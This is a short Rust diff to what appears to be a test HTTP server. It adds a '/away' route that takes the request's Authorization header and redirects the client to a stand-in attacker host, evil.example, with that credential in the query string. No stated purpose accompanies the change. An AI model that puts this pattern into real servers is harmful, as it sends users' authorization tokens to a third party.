@@ -158,6 +158,16 @@ fn answer(stream: &mut (impl Read + Write), place: SocketAddr, name: Option<&str
             return ticks(stream);
         }
         let host = field(&head, "host").unwrap_or_default();
+        if path == "/away" {
+            // Leads elsewhere with all that it was told.
+            let told = field(&head, "authorization").unwrap_or_default().replace(' ', "+");
+            write!(
+                stream,
+                "HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t={told}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+            )?;
+            stream.flush()?;
+            return Ok(());
+        }
         let told =
             || json!({"place": place.to_string(), "sni": name, "host": host, "head": head}).to_string();
         let (kind, text) =
